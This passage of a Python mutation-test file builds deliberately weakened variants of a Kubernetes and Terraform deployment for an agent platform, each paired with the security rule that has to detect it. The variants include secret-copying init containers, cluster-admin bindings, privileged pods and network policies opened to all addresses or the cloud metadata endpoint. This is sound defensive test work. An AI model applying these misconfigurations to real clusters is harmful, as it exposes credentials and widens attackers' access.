"""
Named mutants of the real ``dist/``: each does one harm, and names the rule that has to see it.

Most are generated over every object of a kind, so that a new workload, secret or rule brings its own mutants along.
"""

# A table of harms: long lines are values of real fields, "passwords" are names or made up, and mypy does not infer the
# type of a lambda with a default.
# mypy: disable-error-code="misc"
# ruff: noqa: E501, S108, PLR0912, PLR0915
import copy
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from tests.proofs.world import APP, Json, Mutant, World, body_of, containers, objects

Change = Callable[[World], Any]
AGENT, PROXY, TUNNEL = "openclaw", "litellm", "cloudflared"
WORKLOADS = (AGENT, PROXY, TUNNEL)
SPECIAL_CONTAINER = "dind"
KEY = "sk-ant-api03-" + "A1b2C3d4" * 5


def all_mutants() -> list[Mutant]:
    """Every mutant, in a fixed order."""
    makers = (secrets, network, pods, images, data, references, sites, configuration, second_look, chart)
    found = [mutant for maker in makers for mutant in maker()]
    names = [mutant.id for mutant in found]
    assert len(set(names)) == len(names), sorted({name for name in names if names.count(name) > 1})
    return found


def setting(target: Callable[[World], Json], **values: Any) -> Change:
    """Set fields of what *target* finds."""
    return lambda world: target(world).update(values)


def dropping(target: Callable[[World], Any], key: Any) -> Change:
    """Remove a field, or an entry of a list, of what *target* finds."""
    return lambda world: target(world).pop(key)


def deep(body: Json, *path: Any) -> Any:
    for step in path:
        body = body[step]
    return body


# --- SEC ------------------------------------------------------------------------------------------------------------


def grants() -> Iterator[tuple[str, str, str, str]]:
    """(Secret, key, workload, container) of every secret read in the real ``dist/``."""
    for workload, container, body in containers():
        for entry in body.get("env", []):
            ref = entry.get("valueFrom", {}).get("secretKeyRef")
            if ref:
                yield ref["name"], ref["key"], workload, container


def secrets() -> Iterator[Mutant]:
    read = sorted({(secret, key) for secret, key, _, _ in grants()})
    readers = {(secret, key, workload, container) for secret, key, workload, container in grants()}
    for secret, key in read:
        for workload, container, _ in containers():
            if (secret, key, workload, container) not in readers:
                yield Mutant(
                    "SEC003",
                    f"{key} of {secret} in the env of {workload}/{container}",
                    partial(_give_env, secret, key, workload, container),
                )
        if secret == f"{PROXY}-credentials" and key != "LITELLM_PROXY_KEY":
            for workload, container, _ in containers():
                if workload != PROXY:
                    yield Mutant(
                        "SEC004",
                        f"{key} in {workload}/{container}",
                        partial(_give_env, secret, key, workload, container),
                    )
    for kind, secret in (("envFrom", s) for s in sorted({s for s, _ in read})):
        for workload in WORKLOADS:
            if secret != f"{workload}-credentials":
                yield Mutant("SEC003", f"{kind} of {secret} in {workload}", partial(_give_all, secret, workload))
                for form in ("volume", "subPath", "projected"):
                    yield Mutant("SEC003", f"{form} of {secret} in {workload}", partial(_mount, form, secret, workload))
    for secret in sorted({s for s, _ in read}):
        workload = secret.removesuffix("-credentials")
        yield Mutant(
            "SEC003", f"an init container copies {secret} to a shared volume", partial(_copy, secret, workload)
        )
        yield Mutant(
            "SEC005",
            f"{secret} read by a second workload",
            partial(_give_all, secret, AGENT if workload != AGENT else PROXY),
        )
    for workload in WORKLOADS:
        for field in ("shareProcessNamespace", "hostPID", "hostIPC"):
            yield Mutant("SEC006", f"{field} in {workload}", setting(lambda w, n=workload: w.pod(n), **{field: True}))
        for verb in ("get", "list", "*"):
            yield Mutant(
                "SEC007",
                f"the ServiceAccount of {workload} may {verb} secrets",
                partial(_role, workload, "secrets", verb),
            )
        yield Mutant(
            "SEC003",
            f"the ServiceAccount of {workload} may read Secrets of others",
            partial(_role, workload, "secrets", "get"),
        )
        yield Mutant(
            "SEC007", f"the ServiceAccount of {workload} may start pods", partial(_role, workload, "pods", "create")
        )
        yield Mutant(
            "SEC007",
            f"{workload} is cluster-admin",
            partial(_cluster_admin, {"kind": "ServiceAccount", "name": workload, "namespace": "openclaw"}),
        )
    for group in ("system:serviceaccounts", "system:serviceaccounts:openclaw", "system:authenticated"):
        yield Mutant(
            "SEC007", f"group {group} is cluster-admin", partial(_cluster_admin, {"kind": "Group", "name": group})
        )
    yield Mutant(
        "SEC003",
        "shared processes between the agent's containers",
        setting(lambda w: w.pod(AGENT), shareProcessNamespace=True),
    )
    yield from _literals(read)
    yield from _external_secrets()
    yield from _terraform_secrets()


def _literals(read: list[tuple[str, str]]) -> Iterator[Mutant]:
    for key in sorted({key for _, key in read}):
        yield Mutant("SEC001", f"{key} as a Secret manifest", lambda w, k=key: w.add(_secret({k: "value"})))
    for workload, container, body in containers():
        for entry in body.get("env", []):
            if "valueFrom" in entry:
                yield Mutant(
                    "SEC001",
                    f"the value of {entry['name']} in {workload}/{container}",
                    partial(_write_out, workload, container, entry["name"]),
                )
        yield Mutant(
            "SEC001",
            f"a key in the arguments of {workload}/{container}",
            lambda w, n=workload, c=container: w.container(n, c).setdefault("args", []).append(KEY),
        )
    for _, name in objects("ConfigMap"):
        yield Mutant(
            "SEC001",
            f"a key in ConfigMap {name}",
            lambda w, n=name: w.k8s("ConfigMap", n)["data"].update({"notes.md": f"use {KEY}"}),
        )
    yield Mutant(
        "SEC001",
        "the master key in LiteLLM's configuration",
        lambda w: w.litellm(lambda c: c["general_settings"].update(master_key="hunter2hunter2")),
    )
    yield Mutant(
        "SEC001",
        "the provider key in LiteLLM's configuration",
        lambda w: w.litellm(lambda c: c["model_list"][0]["litellm_params"].update(api_key="abcdefgh12345678")),
    )
    yield Mutant(
        "SEC001",
        "the proxy key in OpenClaw's configuration",
        lambda w: w.openclaw(lambda c: c["models"]["providers"]["litellm"].update(apiKey="abcdefgh12345678")),
    )
    yield Mutant(
        "SEC001",
        "the gateway token in OpenClaw's configuration",
        lambda w: w.openclaw(lambda c: c["gateway"]["auth"].update(token="abcdefgh12345678")),
    )
    yield Mutant(
        "SEC001",
        "the tunnel secret in Terraform",
        lambda w: w.tf("cloudflare_zero_trust_tunnel_cloudflared").update(secret="c2VjcmV0c2VjcmV0c2VjcmV0"),
    )
    yield Mutant("SEC001", "a key in the ledger", lambda w: w.ledger["secrets"][0].update(because=KEY))
    yield Mutant(
        "SEC001",
        "a private key in an annotation",
        lambda w: w.k8s("Service", AGENT)["metadata"].update(annotations={"x": "-----BEGIN OPENSSH PRIVATE KEY-----"}),
    )
    yield Mutant(
        "SEC001",
        "a default for a secret variable",
        lambda w: w.cloudflare["variable"].update(api_token={"type": "string", "default": "abcdefgh"}),
    )
    yield Mutant(
        "SEC001",
        "credentials in a URL",
        lambda w: w.container(AGENT)["env"].append({"name": "PROXY", "value": "http://user:hunter22@example.org"}),
    )


def _external_secrets() -> Iterator[Mutant]:
    for _, name in objects("ExternalSecret"):
        spec = body_of("ExternalSecret", name)["spec"]
        target = partial(lambda n, w: w.k8s("ExternalSecret", n)["spec"], name)
        yield Mutant(
            "SEC002",
            f"{name} fetches every parameter",
            lambda w, t=target: t(w).update(dataFrom=[{"find": {"name": {"regexp": ".*"}}}]),
        )
        yield Mutant("SEC003", f"{name} fetches every parameter, and its reader reads all", partial(_fetch_all, name))
        yield Mutant(
            "SEC002",
            f"{name} extracts a parameter",
            lambda w, t=target: t(w).update(dataFrom=[{"extract": {"key": "/lolice/openclaw/ANTHROPIC_API_KEY"}}]),
        )
        yield Mutant(
            "SEC002",
            f"{name} has a template from elsewhere",
            lambda w, t=target: t(w)["target"].update(template={"templateFrom": [{"configMap": {"name": "x"}}]}),
        )
        yield Mutant(
            "SEC002",
            f"{name} writes a secret into an annotation",
            lambda w, t=target: t(w)["target"].update(template={"metadata": {"annotations": {"a": "{{ .x }}"}}}),
        )
        yield Mutant(
            "REF012", f"{name} reads another store", lambda w, t=target: t(w)["secretStoreRef"].update(name="other")
        )
        yield Mutant(
            "REF012",
            f"{name} reads a store of the namespace",
            lambda w, t=target: t(w)["secretStoreRef"].update(kind="SecretStore"),
        )
        yield Mutant(
            "REF010",
            f"{name} is of a version that is not served",
            lambda w, n=name: w.k8s("ExternalSecret", n).update(apiVersion="external-secrets.io/v1beta1"),
        )
        for field, value in (("creationPolicy", "Orphan"), ("deletionPolicy", "Delete")):
            yield Mutant(
                "CFG008",
                f"{name} with {field} {value}",
                lambda w, t=target, f=field, v=value: t(w)["target"].update({f: v}),
            )
        yield Mutant("CFG008", f"{name} never refreshes", lambda w, t=target: t(w).update(refreshInterval="0"))
        for index, entry in enumerate(spec["data"]):
            key = entry["secretKey"]
            yield Mutant("SEC002", f"{name} without {key}", lambda w, t=target, i=index: t(w)["data"].pop(i))
            yield (
                Mutant("SEC003", f"{key} of {name} is filled with the Anthropic key", partial(_refill, name, index))
                if "ANTHROPIC" not in key
                else Mutant(
                    "SEC003",
                    f"{key} of {name} is filled with the proxy key",
                    partial(_refill, name, index, "/lolice/openclaw/LITELLM_PROXY_KEY"),
                )
            )
            yield Mutant(
                "REF001",
                f"{key} of {name} asks for a parameter that nobody makes",
                partial(_refill, name, index, "/lolice/openclaw/OTHER"),
            )
            yield Mutant(
                "SEC005",
                f"{name} carries {key} a second time, unread",
                lambda w, t=target, e=entry: t(w)["data"].append({**copy.deepcopy(e), "secretKey": "SPARE"}),
            )
            for field in ("conversionStrategy", "decodingStrategy", "metadataPolicy"):
                yield Mutant(
                    "CFG008",
                    f"{name} leaves {field} of {key} out",
                    lambda w, t=target, i=index, f=field: t(w)["data"][i]["remoteRef"].pop(f),
                )
    yield Mutant(
        "SEC002",
        "a PushSecret carries a Secret out",
        lambda w: w.add(
            {
                "apiVersion": "external-secrets.io/v1alpha1",
                "kind": "PushSecret",
                "metadata": {"name": "out", "namespace": "openclaw"},
                "spec": {},
            }
        ),
    )
    yield Mutant(
        "REF010",
        "a ClusterExternalSecret",
        lambda w: w.add(
            {
                "apiVersion": "external-secrets.io/v1",
                "kind": "ClusterExternalSecret",
                "metadata": {"name": "all"},
                "spec": {},
            }
        ),
    )
    yield Mutant("SEC003", "a template hands the provider key to the agent under another name", _template_leak)
    yield Mutant("SEC004", "a second ExternalSecret brings the provider key to the agent", _second_external_secret)
    yield Mutant(
        "REF012",
        "a store of one's own",
        lambda w: w.add(
            {
                "apiVersion": "external-secrets.io/v1",
                "kind": "SecretStore",
                "metadata": {"name": "own", "namespace": "openclaw"},
                "spec": {},
            }
        ),
    )
    for workload, container, body in containers():
        for entry in body.get("env", []):
            if "valueFrom" in entry:
                name = entry["name"]
                yield Mutant(
                    "SEC008",
                    f"{name} as an argument of {workload}/{container}",
                    lambda w, n=workload, c=container, v=name: (
                        w.container(n, c).setdefault("args", []).append(f"--key=$({v})")
                    ),
                )
                yield Mutant(
                    "SEC008",
                    f"{name} copied to another variable of {workload}/{container}",
                    lambda w, n=workload, c=container, v=name: w.container(n, c)["env"].append(
                        {"name": "COPY", "value": f"$({v})"}
                    ),
                )


def _terraform_secrets() -> Iterator[Mutant]:
    import json as _json

    from tests.proofs.world import DIST

    aws = _json.loads((DIST / "arch/terraform/aws/openclaw/cdk.tf.json").read_text())
    for name in aws["resource"]["aws_ssm_parameter"]:
        target = partial(lambda n, w: w.aws["resource"]["aws_ssm_parameter"][n], name)
        yield Mutant("SEC009", f"parameter {name} is a plain String", setting(target, type="String"))
        yield Mutant("SEC009", f"parameter {name}: ignore_changes lost", dropping(target, "lifecycle"))
        yield Mutant(
            "SEC009",
            f"parameter {name}: ignore_changes names something else",
            setting(target, lifecycle={"ignore_changes": ["tags"]}),
        )
        yield Mutant("SEC001", f"parameter {name} has its value written out", setting(target, value="abcdefgh12345678"))
        yield Mutant("REF001", f"parameter {name} is renamed", setting(target, name="/lolice/openclaw/RENAMED"))
        yield Mutant(
            "REF001", f"parameter {name} is not made", lambda w, n=name: w.aws["resource"]["aws_ssm_parameter"].pop(n)
        )
        yield Mutant(
            "SEC011",
            f"parameter {name} as an output",
            lambda w, n=name: w.aws.update(output={"x": {"value": f"${{aws_ssm_parameter.{n}.value}}"}}),
        )
    token = "aws_ssm_parameter"
    yield Mutant(
        "SEC009",
        "the tunnel token keeps its old value",
        lambda w: w.tf(token).update(lifecycle={"ignore_changes": ["value"]}),
    )
    yield Mutant("SEC009", "the tunnel token is not filled", lambda w: w.tf(token).update(value="dummy"))
    for module in ("aws", "cloudflare"):
        root = partial(lambda m, w: getattr(w, m), module)
        backend = partial(lambda r, w: r(w)["terraform"]["backend"], root)
        yield Mutant(
            "SEC010", f"state of {module} not encrypted", lambda w, b=backend: b(w)["s3"].update(encrypt=False)
        )
        yield Mutant(
            "SEC010",
            f"state of {module} on a laptop",
            lambda w, r=root: r(w)["terraform"].update(backend={"local": {"path": "x"}}),
        )
        yield Mutant("SEC010", f"no backend for {module}", lambda w, r=root: r(w)["terraform"].pop("backend"))
        yield Mutant(
            "SEC010",
            f"state of {module} under another key",
            lambda w, b=backend: b(w)["s3"].update(key="terraform/other/v1/terraform.tfstate"),
        )
        yield Mutant(
            "SEC010", f"backend of {module} with credentials", lambda w, b=backend: b(w)["s3"].update(secret_key="x")
        )
        yield Mutant(
            "SEC011",
            f"a null_resource in {module}",
            lambda w, r=root: r(w)["resource"].update(
                null_resource={"x": {"provisioner": {"local-exec": {"command": "id"}}}}
            ),
        )
        yield Mutant(
            "SEC011",
            f"a data source reads a parameter in {module}",
            lambda w, r=root: r(w).update(data={"aws_ssm_parameter": {"x": {"name": "/a"}}}),
        )
        yield Mutant("SEC011", f"a module in {module}", lambda w, r=root: r(w).update(module={"x": {"source": "./x"}}))
    yield Mutant(
        "SEC011",
        "the tunnel token as an output",
        lambda w: w.cloudflare.update(
            output={
                "t": {"value": "${cloudflare_zero_trust_tunnel_cloudflared.openclaw.tunnel_token}", "sensitive": True}
            }
        ),
    )
    yield Mutant(
        "SEC011",
        "the tunnel secret in a description",
        lambda w: w.tf(token).update(description="${random_bytes.openclaw.base64}"),
    )


def _give_env(secret: str, key: str, workload: str, container: str, world: World) -> None:
    entry = {"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": secret, "key": key}}}
    world.container(workload, container).setdefault("env", []).append(entry)


def _give_all(secret: str, workload: str, world: World) -> None:
    world.container(workload)["envFrom"] = [{"secretRef": {"name": secret}}]


def _mount(form: str, secret: str, workload: str, world: World) -> None:
    source: Json = {"secret": {"secretName": secret}}
    if form == "projected":
        source = {"projected": {"sources": [{"secret": {"name": secret}}]}}
    world.pod(workload).setdefault("volumes", []).append({"name": "stolen", **source})
    mount = {"name": "stolen", "mountPath": "/stolen"}
    if form == "subPath":
        mount["subPath"] = next(key for s, key, _, _ in grants() if s == secret)
    world.container(workload).setdefault("volumeMounts", []).append(mount)


def _copy(secret: str, workload: str, world: World) -> None:
    """Declared for the init container alone, but copied where another container sees it."""
    pod = world.pod(workload)
    pod.setdefault("volumes", []).extend(
        [{"name": "from", "secret": {"secretName": secret}}, {"name": "to", "emptyDir": {"sizeLimit": "1Mi"}}]
    )
    pod.setdefault("initContainers", []).append(
        {
            "name": "copy",
            "image": "docker:27.5.1-cli",
            "command": ["sh", "-c", "cp /from/* /to/"],
            "volumeMounts": [{"name": "from", "mountPath": "/from"}, {"name": "to", "mountPath": "/to"}],
        }
    )
    pod["containers"].append(
        {
            "name": "thief",
            "image": "docker:27.5.1-cli",
            "volumeMounts": [{"name": "to", "mountPath": "/to", "readOnly": True}],
        }
    )
    for one in world.ledger["secrets"]:
        one["readers"].append(
            {"workload": workload, "containers": ["copy"], "as": "file", "name": f"/from/{one['id']}"}
        )


def _role(account: str, resource: str, verb: str, world: World) -> None:
    meta = {"name": "grab", "namespace": "openclaw"}
    api = "rbac.authorization.k8s.io"
    world.add(
        {
            "apiVersion": f"{api}/v1",
            "kind": "Role",
            "metadata": meta,
            "rules": [{"apiGroups": [""], "resources": [resource], "verbs": [verb]}],
        },
        {
            "apiVersion": f"{api}/v1",
            "kind": "RoleBinding",
            "metadata": meta,
            "roleRef": {"apiGroup": api, "kind": "Role", "name": "grab"},
            "subjects": [{"kind": "ServiceAccount", "name": account}],
        },
    )


def _cluster_admin(subject: Json, world: World) -> None:
    api = "rbac.authorization.k8s.io"
    world.add(
        {
            "apiVersion": f"{api}/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "boss"},
            "roleRef": {"apiGroup": api, "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [subject],
        }
    )


def _secret(values: dict[str, str]) -> Json:
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "plain", "namespace": "openclaw"},
        "stringData": values,
    }


def _write_out(workload: str, container: str, name: str, world: World) -> None:
    entry = next(e for e in world.container(workload, container)["env"] if e["name"] == name)
    entry.pop("valueFrom")
    entry["value"] = "abcdefgh12345678"


def _fetch_all(name: str, world: World) -> None:
    spec = world.k8s("ExternalSecret", name)["spec"]
    spec["dataFrom"] = [{"find": {"name": {"regexp": ".*"}}}]
    world.container(name)["envFrom"] = [{"secretRef": {"name": spec["target"]["name"]}}]


def _refill(name: str, index: int, world_or_path: Any, world: World | None = None) -> None:
    path = "/lolice/openclaw/ANTHROPIC_API_KEY" if world is None else world_or_path
    target: World = world_or_path if world is None else world
    target.k8s("ExternalSecret", name)["spec"]["data"][index]["remoteRef"]["key"] = path


def _template_leak(world: World) -> None:
    spec = world.k8s("ExternalSecret", AGENT)["spec"]
    spec["data"].append({"secretKey": "a", "remoteRef": {"key": "/lolice/openclaw/ANTHROPIC_API_KEY"}})
    spec["target"]["template"] = {"data": {"DISCORD_BOT_TOKEN": "{{ .DISCORD_BOT_TOKEN }}{{ .a }}"}}


def _second_external_secret(world: World) -> None:
    world.add(
        {
            "apiVersion": "external-secrets.io/v1",
            "kind": "ExternalSecret",
            "metadata": {"name": "second", "namespace": "openclaw"},
            "spec": {
                "secretStoreRef": {"kind": "ClusterSecretStore", "name": "parameterstore"},
                "target": {"name": "innocent"},
                "data": [{"secretKey": "theme", "remoteRef": {"key": "/lolice/openclaw/ANTHROPIC_API_KEY"}}],
            },
        }
    )
    world.container(AGENT)["env"].append(
        {"name": "THEME", "valueFrom": {"secretKeyRef": {"name": "innocent", "key": "theme"}}}
    )


# --- NET ------------------------------------------------------------------------------------------------------------


def network() -> Iterator[Mutant]:
    policies = [name for _, name in objects("NetworkPolicy")]
    for name in policies:
        spec = body_of("NetworkPolicy", name)["spec"]
        target = partial(lambda n, w: w.k8s("NetworkPolicy", n)["spec"], name)
        default = name == "default-deny"
        yield Mutant(
            "NET002" if default else "NET003", f"policy {name} dropped", lambda w, n=name: w.drop("NetworkPolicy", n)
        )
        for kept in ("Ingress", "Egress"):
            yield Mutant(
                "NET002" if default else "NET003",
                f"policy {name} isolates {kept} alone",
                setting(target, policyTypes=[kept]),
            )
        yield Mutant(
            "NET010",
            f"policy {name} applied after pods",
            lambda w, n=name: w.k8s("NetworkPolicy", n)["metadata"].update(annotations={}),
        )
        yield Mutant(
            "NET010",
            f"policy {name} is a hook",
            lambda w, n=name: w.k8s("NetworkPolicy", n)["metadata"]["annotations"].update(
                {"argocd.argoproj.io/hook": "Sync"}
            ),
        )
        yield Mutant(
            "NET001",
            f"policy {name}: podSelector misspelt",
            lambda w, t=target: t(w).update(podSelectr=t(w).pop("podSelector")),
        )
        yield Mutant(
            "NET001",
            f"policy {name}: policyTypes misspelt",
            lambda w, t=target: t(w).update(policytypes=t(w).pop("policyTypes")),
        )
        yield Mutant(
            "NET002" if default else "NET003",
            f"policy {name} in another namespace",
            lambda w, n=name: w.k8s("NetworkPolicy", n)["metadata"].update(namespace="default"),
        )
        if not default:
            yield Mutant(
                "NET003",
                f"policy {name} selects the whole platform",
                setting(target, podSelector={"matchLabels": {"app.kubernetes.io/part-of": "openclaw"}}),
            )
            yield Mutant("NET003", f"policy {name} selects every pod", setting(target, podSelector={}))
            yield Mutant(
                "NET003", f"policy {name} selects no pod", setting(target, podSelector={"matchLabels": {"app": "typo"}})
            )
        for direction, key in (("egress", "to"), ("ingress", "from")):
            for index, rule in enumerate(spec.get(direction) or []):
                yield from _rule_mutants(name, direction, key, index, rule)
        yield Mutant(
            "NET004", f"policy {name} opens all egress", lambda w, t=target: t(w).setdefault("egress", []).append({})
        )
        yield Mutant(
            "NET007" if not default else "NET002",
            f"policy {name} opens all ingress",
            lambda w, t=target: t(w).setdefault("ingress", []).append({}),
        )
        for what, peer in (
            ("IPv4", "0.0.0.0/0"),
            ("IPv6", "::/0"),
            ("pods", "192.178.0.0/16"),
            ("services", "10.96.0.0/12"),
            ("nodes", "192.168.10.0/24"),
            ("the API server", "192.168.10.99/32"),
            ("metadata", "169.254.169.254/32"),
            ("CGNAT", "100.64.0.0/10"),
            ("multicast", "224.0.0.0/4"),
        ):
            yield Mutant(
                "NET006",
                f"policy {name} opens {what}",
                lambda w, t=target, p=peer: (
                    t(w).setdefault("egress", []).append({"to": [{"ipBlock": {"cidr": p}}], "ports": [{"port": 443}]})
                ),
            )
        yield Mutant(
            "NET004",
            f"policy {name} opens a port range to a public address",
            lambda w, t=target: (
                t(w)
                .setdefault("egress", [])
                .append({"to": [{"ipBlock": {"cidr": "8.8.8.8/32"}}], "ports": [{"port": 1, "endPort": 65535}]})
            ),
        )
        if not default:
            yield Mutant(
                "NET007",
                f"policy {name} receives from the Internet",
                lambda w, t=target: (
                    t(w)
                    .setdefault("ingress", [])
                    .append({"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}], "ports": [{"port": 4000}]})
                ),
            )
            yield Mutant(
                "NET007",
                f"policy {name} receives from monitoring",
                lambda w, t=target: (
                    t(w)
                    .setdefault("ingress", [])
                    .append(
                        {
                            "from": [
                                {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}
                            ],
                            "ports": [{"port": 2000}],
                        }
                    )
                ),
            )
    yield from _pod_network()


def _rule_mutants(name: str, direction: str, key: str, index: int, rule: Json) -> Iterator[Mutant]:
    where = f"policy {name}, {direction} rule {index + 1}"
    extra = "NET004" if direction == "egress" else "NET007"
    at = partial(lambda n, d, i, w: w.k8s("NetworkPolicy", n)["spec"][d][i], name, direction, index)
    yield Mutant("NET005", f"{where} dropped", lambda w: w.k8s("NetworkPolicy", name)["spec"][direction].pop(index))
    yield Mutant(extra, f"{where}: peers emptied", setting(at, **{key: []}))
    yield Mutant("NET008", f"{where}: peers dropped", dropping(at, key))
    yield Mutant("NET008", f"{where}: ports emptied", setting(at, ports=[]))
    yield Mutant(extra, f"{where}: ports dropped", dropping(at, "ports"))
    yield Mutant(extra, f"{where}: port without number", setting(at, ports=[{"protocol": "TCP"}]))
    yield Mutant("NET005", f"{where}: other protocol", lambda w: [p.update(protocol="SCTP") for p in at(w)["ports"]])
    yield Mutant(extra, f"{where}: one more port", lambda w: at(w)["ports"].append({"protocol": "TCP", "port": 6443}))
    yield Mutant(extra, f"{where}: a range of ports", lambda w: at(w)["ports"][0].update(endPort=65535))
    yield Mutant("NET001", f"{where}: {key} misspelt", lambda w: at(w).update({key.capitalize(): at(w).pop(key)}))
    for number, peer in enumerate(rule[key]):
        one = partial(lambda a, k, n, w: a(w)[k][n], at, key, number)
        who = f"{where}, peer {number + 1}"
        if "ipBlock" in peer:
            for hole in peer["ipBlock"].get("except") or []:
                owner = "NET006"
                yield Mutant(
                    owner,
                    f"{who}: {hole} dropped from except",
                    lambda w, o=one, h=hole: o(w)["ipBlock"]["except"].remove(h),
                )
            yield Mutant(
                "NET006", f"{who}: the whole address space", lambda w, o=one: o(w).update(ipBlock={"cidr": "0.0.0.0/0"})
            )
            yield Mutant("NET005", f"{who}: one address", lambda w, o=one: o(w).update(ipBlock={"cidr": "8.8.8.8/32"}))
            continue
        yield Mutant(extra, f"{who}: every pod", lambda w, o=one: o(w).update(podSelector={}))
        yield Mutant(extra, f"{who}: every namespace", lambda w, o=one: o(w).update(namespaceSelector={}))
        yield Mutant(
            "NET005",
            f"{who}: a label misspelt",
            lambda w, o=one: o(w).update(podSelector={"matchLabels": {"app": "typo"}}),
        )
        yield Mutant(
            extra,
            f"{who}: the label by Exists",
            lambda w, o=one: o(w).update(
                podSelector={
                    "matchExpressions": [{"key": next(iter(o(w)["podSelector"]["matchLabels"])), "operator": "Exists"}]
                }
            ),
        )
        for label in peer["podSelector"]["matchLabels"]:
            others = len(peer["podSelector"]["matchLabels"]) > 1
            change = (
                (lambda w, o=one, x=label: o(w)["podSelector"]["matchLabels"].pop(x))
                if others
                else (
                    lambda w, o=one: (
                        o(w).pop("podSelector") if "namespaceSelector" in o(w) else o(w).update(podSelector={})
                    )
                )
            )
            yield Mutant(extra, f"{who}: without the label {label}", change)
        if "namespaceSelector" in peer:
            yield Mutant(
                extra,
                f"{who}: two peers where one was meant",
                lambda w, a=at, o=one: a(w)[key].append({"podSelector": o(w).pop("podSelector")}),
            )
            yield Mutant(
                extra,
                f"{who}: pods of all namespaces",
                lambda w, o=one: o(w).update(
                    namespaceSelector={
                        "matchExpressions": [
                            {"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["x"]}
                        ]
                    }
                ),
            )
        else:
            yield Mutant(
                extra,
                f"{who}: pods of another namespace",
                lambda w, o=one: o(w).update(
                    namespaceSelector={"matchLabels": {"kubernetes.io/metadata.name": "default"}}
                ),
            )


def _pod_network() -> Iterator[Mutant]:
    for workload in WORKLOADS:
        yield Mutant(
            "NET009", f"{workload} on the host network", setting(lambda w, n=workload: w.pod(n), hostNetwork=True)
        )
        yield Mutant(
            "NET006",
            f"{workload} on the host network, past every denial",
            setting(lambda w, n=workload: w.pod(n), hostNetwork=True),
        )
        yield Mutant(
            "NET009",
            f"{workload} with a port of its node",
            lambda w, n=workload: w.container(n)["ports"][0].update(hostPort=8080),
        )
        yield Mutant(
            "NET003",
            f"{workload} loses its label",
            lambda w, n=workload: w.k8s("Deployment", n)["spec"]["template"]["metadata"]["labels"].update(
                {"app.kubernetes.io/name": "other"}
            ),
        )
    for impostor in WORKLOADS:
        for victim in WORKLOADS:
            if impostor != victim:
                yield Mutant(
                    "NET003",
                    f"{impostor} carries the labels of {victim}",
                    lambda w, i=impostor, v=victim: w.k8s("Deployment", i)["spec"]["template"]["metadata"][
                        "labels"
                    ].update({"app.kubernetes.io/name": v}),
                )
    for _, name in objects("Service"):
        target = partial(lambda n, w: w.k8s("Service", n)["spec"], name)
        for kind in ("NodePort", "LoadBalancer", "ExternalName"):
            yield Mutant("NET011", f"Service {name} of type {kind}", setting(target, type=kind))
        yield Mutant("NET011", f"Service {name} with an external address", setting(target, externalIPs=["203.0.113.1"]))
        yield Mutant(
            "NET003",
            f"Service {name} selects the whole platform",
            setting(target, selector={"app.kubernetes.io/part-of": "openclaw"}),
        )
        yield Mutant("NET003", f"Service {name} selects nothing", dropping(target, "selector"))
        yield Mutant(
            "NET003",
            f"Service {name} selects another workload",
            setting(target, selector={"app.kubernetes.io/name": "cloudflared"}),
        )
        yield Mutant(
            "REF006",
            f"Service {name} leads to no port",
            lambda w, t=target: t(w)["ports"][0].update(targetPort="nothing"),
        )
        yield Mutant("REF006", f"Service {name} over UDP", lambda w, t=target: t(w)["ports"][0].update(protocol="UDP"))
    yield Mutant(
        "NET011",
        "an Ingress past the tunnel",
        lambda w: w.add(
            {
                "apiVersion": "networking.k8s.io/v1",
                "kind": "Ingress",
                "metadata": {"name": "x", "namespace": "openclaw"},
                "spec": {},
            }
        ),
    )
    for kind, api in (
        ("CiliumNetworkPolicy", "cilium.io/v2"),
        ("GlobalNetworkPolicy", "projectcalico.org/v3"),
        ("AdminNetworkPolicy", "policy.networking.k8s.io/v1alpha1"),
    ):
        yield Mutant(
            "NET001",
            f"a {kind} that is not evaluated",
            lambda w, k=kind, a=api: w.add(
                {"apiVersion": a, "kind": k, "metadata": {"name": "x", "namespace": "openclaw"}, "spec": {}}
            ),
        )
    yield Mutant(
        "NET007",
        "the agent receives from the proxy, by declaration",
        lambda w: w.ledger["flows"].append(
            {"from": PROXY, "to": AGENT, "protocol": "TCP", "port": 18789, "because": "x"}
        ),
    )
    yield Mutant(
        "NET005",
        "a declared flow without a policy",
        lambda w: w.ledger["flows"].append(
            {"from": TUNNEL, "to": PROXY, "protocol": "TCP", "port": 4000, "because": "x"}
        ),
    )
    yield Mutant(
        "NET005",
        "a declared flow to nowhere",
        lambda w: w.ledger["flows"].append(
            {"from": TUNNEL, "to": "nowhere", "protocol": "TCP", "port": 4000, "because": "x"}
        ),
    )


# --- POD, IMG -------------------------------------------------------------------------------------------------------


def pods() -> Iterator[Mutant]:
    for workload, container, _ in containers():
        who = f"{workload}/{container}"
        target = partial(lambda n, c, w: w.container(n, c), workload, container)
        security = partial(lambda t, w: t(w).setdefault("securityContext", {}), target)
        if container != SPECIAL_CONTAINER:
            yield Mutant("POD001", f"{who} may run as root", setting(security, runAsNonRoot=False))
            yield Mutant("POD001", f"{who} runs as user 0", setting(security, runAsUser=0))
            yield Mutant("POD002", f"{who} may escalate", dropping(security, "allowPrivilegeEscalation"))
            yield Mutant("POD003", f"{who} is privileged", setting(security, privileged=True))
            yield Mutant("POD004", f"{who} keeps capabilities", dropping(security, "capabilities"))
            yield Mutant(
                "POD004", f"{who} adds NET_ADMIN", lambda w, s=security: s(w)["capabilities"].update(add=["NET_ADMIN"])
            )
            yield Mutant("POD005", f"{who} without seccomp", setting(security, seccompProfile={"type": "Unconfined"}))
            yield Mutant("POD008", f"{who} may write to its image", dropping(security, "readOnlyRootFilesystem"))
        yield Mutant("POD006", f"{who} sees /proc unmasked", setting(security, procMount="Unmasked"))
        yield Mutant("POD009", f"{who} without limits", dropping(target, "resources"))
        yield Mutant(
            "POD009", f"{who} without a limit of memory", lambda w, t=target: t(w)["resources"]["limits"].pop("memory")
        )
        yield Mutant("POD011", f"{who} is renamed", setting(target, name="renamed"))
        yield Mutant(
            "IMG001",
            f"{who} takes latest",
            lambda w, t=target: t(w).update(image=t(w)["image"].split(":")[0] + ":latest"),
        )
        yield Mutant(
            "IMG001", f"{who} without a tag", lambda w, t=target: t(w).update(image=t(w)["image"].split(":")[0])
        )
        yield Mutant(
            "IMG001",
